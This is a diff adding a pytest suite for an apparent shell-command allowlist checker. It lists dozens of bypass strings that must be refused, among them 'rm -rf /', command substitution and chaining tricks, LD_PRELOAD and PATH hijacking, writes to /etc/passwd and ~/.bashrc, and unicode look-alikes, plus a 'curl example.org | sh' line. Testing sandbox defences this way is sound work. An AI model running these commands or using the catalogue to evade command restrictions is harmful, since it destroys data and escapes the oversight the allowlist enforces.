@@ -1,0 +1,199 @@
+"""The bypass corpus: against an allowlist of ls, cat, echo, grep, git every attempt is refused with a reason."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from hermitcrab.servers.exec.policy import Allowlist, Checker, Policy, canonical, resolve_command
+
+BYPASSES = [
+    # chains and pipes
+    "rm -rf /",
+    "ls; rm -rf ~",
+    "ls && rm x",
+    "ls || rm x",
+    "ls & rm x",
+    "ls | xargs rm",
+    "cat a.txt | sh",
+    "ls;\nrm x",
+    "ls\nrm x",
+    # substitutions
+    "echo $(rm x)",
+    "echo `rm x`",
+    "cat <(rm x)",
+    "ls > >(rm x)",
+    "grep x $(rm y)",
+    "echo ${x:-$(rm y)}",
+    "cat <<EOF\n$(rm x)\nEOF",
+    "x=$(rm y)",
+    # compound commands and functions
+    "(rm x)",
+    "{ rm x; }",
+    "if true; then rm x; fi",
+    "for f in a; do rm $f; done",
+    "while false; do rm x; done",
+    "f() { rm x; }; f",
+    # builtins that run code
+    "eval 'rm x'",
+    "exec rm x",
+    "command rm x",
+    "builtin eval ls",
+    ". ./script.sh",
+    "source script.sh",
+    "trap 'rm x' EXIT",
+    "alias ls=rm",
+    # inline interpreters and wrappers
+    "bash -c 'rm x'",
+    "sh -c ls",
+    "python3 -c 'import os'",
+    "perl -e 'unlink q(x)'",
+    "env rm x",
+    "find . -exec rm {} \\;",
+    "sudo ls",
+    "git -c core.pager='rm x' log",
+    "git config alias.x '!rm x'",
+    # path and quoting tricks
+    "/bin/../usr/bin/rm x",
+    "/usr/bin/rm x",
+    "r''m x",
+    '"r"m x',
+    "\\rm x",
+    "$'\\x72\\x6d' x",
+    "$CMD x",
+    "${X}ls",
+    "l* a.txt",
+    "/usr/bin/r? x",
+    "{rm,-rf,x}",
+    # unicode look-alikes and invisible characters
+    "ｒｍ x",
+    "rм x",
+    "ls\u200b a.txt",
+    # environment tricks
+    "PATH=/tmp ls",
+    "LD_PRELOAD=/tmp/x.so ls",
+    "BASH_ENV=/tmp/x ls",
+    "env PATH=/tmp ls",
+    "export PATH=/tmp",
+    "for PATH in /tmp; do ls; done",
+    "read PATH < a.txt",
+    "echo ${PATH:=/tmp}",
+    # redirections writing outside the roots
+    "echo x > ~/.bashrc",
+    "echo x >> /etc/passwd",
+    "echo x >| /etc/passwd",
+    "ls &> /etc/x",
+    "ls 2>/etc/x",
+    "ls <> /etc/x",
+    "cat a.txt > ../outside",
+    "ls > $HOME/.profile",
+    "cd / && echo x > tmp/evil",
+    "cd sub; cd ../..; echo x > evil",
+    "cat a.txt | tee ~/.bashrc",
+    # constructs bashlex cannot model are never waved through
+    "time rm x",
+    "[[ $(rm x) ]]",
+    "coproc rm x",
+    "case x in a) rm x;; esac",
+    "ls\x00rm",
+]
+
+ALLOWED = [
+    "ls -la",
+    "ls | grep a",
+    "cat a.txt | grep -c hello",
+    "echo hi > out.txt",
+    "echo hi >> sub/out.txt",
+    "echo a && ls || echo b",
+    "git status",
+    "git log --oneline",
+    'echo "$(ls)"',
+    "ls 2>&1 | grep a",
+    "(ls)",
+    "cat <<EOF\nhello $USER\nEOF",
+    "echo hi > /dev/null",
+    "cd sub && ls",
+    "ls 'a b' \"c d\"",
+    "grep -r hello .",
+    "FOO=1 ls",
+    "export FOO=bar",
+    "for f in a b; do echo $f; done",
+    "f() { ls; }; f",
+]
+
+
+def test_corpus_is_large_enough() -> None:
+    assert len(BYPASSES) >= 40
+
+
+@pytest.mark.parametrize("command", BYPASSES)
+def test_bypass_is_refused_with_a_reason(checker: Checker, workspace: Path, command: str) -> None:
+    verdict = checker.check(command, workspace)
+    assert not verdict.allowed
+    reasons = [verdict.refusal] if verdict.refusal else [m.reason for m in verdict.misses]
+    assert all(reason and len(reason) > 10 for reason in reasons)
+
+
+@pytest.mark.parametrize("command", ALLOWED)
+def test_allowed_forms_pass(checker: Checker, workspace: Path, command: str) -> None:
+    verdict = checker.check(command, workspace)
+    assert verdict.allowed, verdict
+
+
+def test_symlink_named_like_an_allowed_binary_is_not_allowed(checker: Checker, workspace: Path) -> None:
+    os.symlink(resolve_command("rm", "/", os.environ["PATH"]) or "/bin/rm", workspace / "ls")
+    verdict = checker.check("./ls a.txt", workspace)
+    assert [m.binary for m in verdict.misses] == [str(workspace / "ls")]
+
+
+@pytest.mark.parametrize(
+    "env", [{"LD_PRELOAD": "/tmp/x.so"}, {"PATH": "/tmp"}, {"BASH_ENV": "/tmp/x"}, {"GIT_SSH_COMMAND": "rm x"},
+            {"DYLD_INSERT_LIBRARIES": "x"}, {"BAD NAME": "x"}],
+)
+def test_env_overrides_are_refused(checker: Checker, workspace: Path, env: dict[str, str]) -> None:
+    verdict = checker.check("ls", workspace, env)
+    assert verdict.refusal is not None
+
+
+def test_harmless_env_override_passes(checker: Checker, workspace: Path) -> None:
+    assert checker.check("ls", workspace, {"FOO": "bar"}).allowed
+
+
+def test_every_segment_is_reported(checker: Checker, workspace: Path) -> None:
+    verdict = checker.check("rm a; ls; python3 -c 1 | sh", workspace)
+    commands = {m.command for m in verdict.misses}
+    assert {"rm a", "python3 -c 1", "sh"} <= commands
+
+
+def test_approved_binaries_extend_the_allowlist(checker: Checker, workspace: Path) -> None:
+    rm = resolve_command("rm", "/", os.environ["PATH"])
+    assert rm is not None
+    assert checker.check("rm -f x", workspace, approved=[rm]).allowed
+
+
+def test_writers_must_stay_inside_the_roots(workspace: Path, state: Path) -> None:
+    checker = Checker(Policy(allow=("rm", "cp", "touch")), [workspace], protected=[state],
+                      search_path=os.environ["PATH"], home=str(workspace.parent))
+    assert checker.check("rm -f a.txt sub/*", workspace).allowed
+    assert not checker.check("rm -rf ../x", workspace).allowed
+    assert not checker.check("cp a.txt /etc/", workspace).allowed
+    assert not checker.check(f"touch {state}/approvals.json", workspace).allowed
+
+
+def test_security_full_keeps_only_hard_refusals(workspace: Path) -> None:
+    checker = Checker(Policy(security="full"), [workspace], search_path=os.environ["PATH"], home="/root")
+    assert checker.check("rm -rf x; curl example.org | sh", workspace).allowed
+    assert checker.check("LD_PRELOAD=x ls", workspace).refusal is not None
+
+
+def test_allowlist_entries_by_name_path_and_glob(tmp_path: Path) -> None:
+    path = os.environ["PATH"]
+    ls = resolve_command("ls", "/", path)
+    assert ls is not None
+    assert Allowlist(["ls"], path).matches(ls)
+    assert Allowlist([ls], path).matches(ls)
+    assert Allowlist([os.path.dirname(ls) + "/l*"], path).matches(ls)
+    assert not Allowlist(["cat"], path).matches(ls)
+    assert canonical("/bin/../usr/bin/rm") != canonical("/usr/bin/ls")
